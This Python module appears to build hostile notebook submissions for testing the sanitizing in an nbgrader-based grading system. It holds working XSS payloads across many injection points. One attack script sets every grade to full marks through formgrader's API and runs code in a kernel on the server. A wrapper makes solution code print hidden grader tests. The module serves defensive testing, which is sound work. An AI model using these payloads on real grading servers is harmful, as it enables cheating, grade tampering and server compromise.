"""Hostile submissions for the sanitizing tests: each way a notebook can carry script into a grader's HTML.

`hostile_submission` fills any assignment's release notebook with the reference solution (so the
score is known: full marks) and adds one payload of each class:

- markdown a student adds or edits: raw HTML with an event handler, ``<script>``, active SVG, an
  ``<iframe srcdoc>``, ``<details ontoggle>``, a Markdown ``javascript:`` link, an attachment, a
  raw cell, a tag that breaks out of an attribute; the title in the notebook's metadata;
- outputs made while grading: ``display(HTML(...))``, ``display(Markdown(...))``,
  ``display(Javascript(...))``, ``display(SVG(...))``, a widget view, an image whose width in the
  output's metadata carries an event handler, HTML in an error's traceback and in a stream with
  ANSI colours; and one from a solution cell;
- a correct solution that prints the calling test cell's source (hidden tests included), and a
  later cell that prints it again.

Every payload sets ``window.__payload_<name>`` when it runs. The first one, an ``<img onerror>``
in an added markdown cell, is the attack of issue 14: on formgrader's page it sets every grade of
the submission to full marks through ``/formgrader/api/grade`` and starts a kernel through
``/api/kernels`` that writes ``pwned-<name>`` in the server's root.
"""

from __future__ import annotations

import ast
import base64
import copy
import json
import re

import nbformat
from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from grading.authoring.samples import fill, solution_code

MARKER = "__payload_"
# The start of a PNG and no more: valid base64, but a broken image, so that an <img onerror> fires.
BROKEN_PNG = "iVBORw0KGgo="
LEAK_PREFIX = "LEAKED SOURCE:"


def mark(name: str) -> str:
    """JavaScript that records that payload ``name`` ran (no quotes: it fits any attribute)."""
    return f"window.{MARKER}{name}=1"


def attack(name: str) -> str:
    """JavaScript that marks ``name``, gives every grade of this submission full marks and runs a kernel."""
    kernel_code = f"open('pwned-{name}','w').write('written by a submission')"
    return (
        "(async()=>{" + mark(name) + ";"
        "const base=location.pathname.split('/formgrader/')[0];"
        "const x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
        "const h={'X-XSRFToken':x?decodeURIComponent(x):'','Content-Type':'application/json'};"
        "if(typeof submission_id!=='undefined'){"
        "const grades=await (await fetch(base+'/formgrader/api/grades?submission_id='+submission_id)).json();"
        "for(const g of grades){await fetch(base+'/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,"
        "body:JSON.stringify({manual_score:g.max_score,extra_credit:null})});}}"
        "const k=await (await fetch(base+'/api/kernels',{method:'POST',headers:h,body:'{}'})).json();"
        "const ws=new WebSocket('ws://'+location.host+base+'/api/kernels/'+k.id+'/channels');"
        "ws.onopen=()=>ws.send(JSON.stringify({channel:'shell',parent_header:{},metadata:{},"
        "header:{msg_id:'m1',msg_type:'execute_request',username:'x',session:'s1',version:'5.3'},"
        f"content:{{code:`{kernel_code}`,silent:false,store_history:false,user_expressions:{{}},"
        "allow_stdin:false,stop_on_error:true}}));})()"
    )


# Payloads that run in nbgrader's formgrader and feedback pages when nothing sanitizes them.
LIVE = ["md_img_onerror", "md_script", "md_svg_onload", "md_svg_script", "md_iframe_srcdoc", "md_details_ontoggle",
        "md_javascript_link", "md_edited_release_cell", "out_html", "out_html_script", "out_markdown",
        "out_javascript", "out_image_width", "solution_html"]
# Payloads that nbconvert's templates already render harmless (escaped, inside an <img>, or never
# rendered); the tests check that they stay so.
INERT = ["md_attachment", "raw_html", "out_svg", "out_widget", "out_error", "out_stream_ansi",
         "cell_tags", "notebook_title"]


def _markdown_payloads() -> list[NotebookNode]:
    cells = [
        new_markdown_cell(f'My notes. <img src=x style="display:none" onerror="{attack("md_img_onerror")}">'),
        new_markdown_cell(f"<script>{mark('md_script')}</script>"),
        new_markdown_cell(f'<svg onload="{mark("md_svg_onload")}" width="1" height="1"><circle r="1"/></svg>'),
        new_markdown_cell(f"<svg><script>{mark('md_svg_script')}</script></svg>"),
        new_markdown_cell(f'<iframe srcdoc="&lt;script&gt;parent.{MARKER}md_iframe_srcdoc=1&lt;/script&gt;">'
                          "</iframe>"),
        new_markdown_cell(f'<details open ontoggle="{mark("md_details_ontoggle")}"><summary>more</summary>x'
                          "</details>"),
        new_markdown_cell(f"See [my notes](javascript:{mark('md_javascript_link')})."),
        new_markdown_cell("![diagram](attachment:diagram.svg)", attachments={"diagram.svg": {
            "image/svg+xml": base64.b64encode(
                f'<svg xmlns="http://www.w3.org/2000/svg" onload="{mark("md_attachment")}"/>'.encode()).decode()}}),
        new_raw_cell(f'<img src=x onerror="{mark("raw_html")}">', metadata={"raw_mimetype": "text/html"}),
    ]
    tagged = new_markdown_cell("A cell with a hostile tag.")
    tagged.metadata["tags"] = [f'x" onmouseover="{mark("cell_tags")}']
    return [*cells, tagged]


def _output_payloads() -> list[NotebookNode]:
    widget = {"model_id": "0123456789abcdef", "version_major": 2, "version_minor": 0}
    return [
        new_code_cell(
            "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
            f"display(HTML('<img src=x onerror=\"{mark('out_html')}\">'))\n"
            f"display(HTML('<script>{mark('out_html_script')}</script>'))\n"
            f"display(Markdown('<img src=x onerror=\"{mark('out_markdown')}\">'))\n"
            f"display(Javascript('{mark('out_javascript')}'))\n"
            "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"4\" height=\"4\" "
            f"onload=\"{mark('out_svg')}\"><circle r=\"2\"/></svg>'))\n"
            f"display({{'application/vnd.jupyter.widget-view+json': {json.dumps(widget)}, "
            f"'text/html': '<img src=x onerror=\"{mark('out_widget')}\">', 'text/plain': 'a widget'}}, raw=True)\n"
            f"display({{'image/png': '{BROKEN_PNG}', 'text/plain': 'a picture'}}, "
            f"metadata={{'image/png': {{'width': '1 onerror={mark('out_image_width')}'}}}}, raw=True)\n"
            f"print('\\x1b[31m<img src=x onerror=\"{mark('out_stream_ansi')}\">\\x1b[0m')"),
        new_code_cell(f"raise ValueError('<img src=x onerror=\"{mark('out_error')}\">')"),
    ]


def _leaking(answer: str) -> str | None:
    """``answer`` with its top-level functions wrapped so that each call prints the calling cells' source.

    Decorated functions (notebook 09's ``@triton.jit`` kernels, which are launched, not called) are left as they are.
    """
    names = [node.name for node in ast.parse(answer).body
             if isinstance(node, ast.FunctionDef) and not node.decorator_list]
    if not names:
        return None
    wrappers = "\n".join(f"{name} = _leak_source({name})" for name in names)
    return (answer + "\n\n\nimport functools as _functools, linecache as _linecache, traceback as _traceback\n"
            "_LEAKED = []\n\n\ndef _leak_source(function):\n"
            "    @_functools.wraps(function)\n    def wrapper(*args, **kwargs):\n"
            "        for frame in _traceback.extract_stack()[:-1]:\n"
            "            text = ''.join(_linecache.getlines(frame.filename))\n"
            "            if 'HIDDEN' in text and text not in _LEAKED:\n"
            f"                _LEAKED.append(text)\n                print({LEAK_PREFIX!r}, text)\n"
            "        return function(*args, **kwargs)\n    return wrapper\n\n\n" + wrappers)


def _tests_task(grade_id: str, task: str) -> bool:
    """Whether ``grade_id`` names a test cell of ``task``, whole or one of its parts."""
    number = re.match(r"task\d+_\d+", task).group()
    return grade_id.startswith(f"test_{number}_")


def hostile_submission(release: NotebookNode, source: NotebookNode) -> NotebookNode:
    """The reference solution of ``release``'s assignment with every payload class added (see the module)."""
    answers = solution_code(source)
    first = next(grade_id for grade_id in answers)
    answers[first] = (f"from IPython.display import HTML as _HTML, display as _display\n"
                      f"_display(_HTML('<img src=x onerror=\"{mark('solution_html')}\">'))\n" + answers[first])
    leaking = next((grade_id for grade_id, answer in answers.items() if _leaking(answer)), None)
    if leaking:
        answers[leaking] = _leaking(answers[leaking])
    notebook = fill(release, answers)
    edited = next(cell for cell in notebook.cells if cell.cell_type == "markdown" and not cell.metadata.get("nbgrader"))
    edited.source += f'\n\n<img src=x onerror="{mark("md_edited_release_cell")}">'
    setup = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code")
    notebook.cells[setup + 1:setup + 1] = _markdown_payloads() + _output_payloads()
    if leaking:
        # A cell of the student's after the leaking task's test prints what was collected again.
        # A task graded in parts has several test cells (test_<task>_<part>_<behaviour>): take the last.
        test = max(i for i, cell in enumerate(notebook.cells)
                   if _tests_task(cell.metadata.get("nbgrader", {}).get("grade_id", ""), leaking))
        notebook.cells.insert(test + 1, new_code_cell("print('again:', _LEAKED)"))
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"0123456789abcdef": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
            "state": {"value": f'<img src=x onerror="{mark("out_widget")}">'}}}}}
    notebook.metadata["title"] = f"</title><script>{mark('notebook_title')}</script>"
    return copy.deepcopy(notebook)


def first_leaking_task(source: NotebookNode) -> str | None:
    """The grade id of the task whose answer `hostile_submission` makes print the hidden tests."""
    return next((grade_id for grade_id, answer in solution_code(source).items() if _leaking(answer)), None)


def read(root, folder: str, assignment: str) -> NotebookNode:
    return nbformat.read(root / folder / assignment / f"{assignment}.ipynb", as_version=4)
